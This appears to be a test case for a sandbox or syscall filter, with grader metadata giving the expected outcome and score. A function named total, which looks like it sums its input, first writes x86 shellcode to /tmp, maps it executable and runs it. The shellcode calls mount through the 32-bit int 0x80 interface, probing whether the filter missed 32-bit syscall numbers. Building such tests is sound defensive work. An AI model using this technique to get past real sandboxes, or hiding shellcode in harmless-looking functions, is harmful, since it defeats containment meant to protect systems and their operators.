"""Makes forbidden calls by the numbers of 32-bit programs, which a filter may have forgotten.

Outcome: kernel-died
Earns: 4
Says: killed by SIG
"""

import ctypes
import mmap


def total(source):
    # mov eax, 21 (mount); int 0x80; ret. Elsewhere than on x86 this is no code at all.
    code = b"\xb8\x15\x00\x00\x00\xcd\x80\xc3"
    with open("/tmp/code", "wb") as file:
        file.write(code.ljust(4096, b"\0"))
    with open("/tmp/code", "rb") as file:
        page = mmap.mmap(
            file.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE | 4
        )
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    print("DONE 32-bit mount:", ctypes.CFUNCTYPE(ctypes.c_long)(address)())
    return sum(source.read())
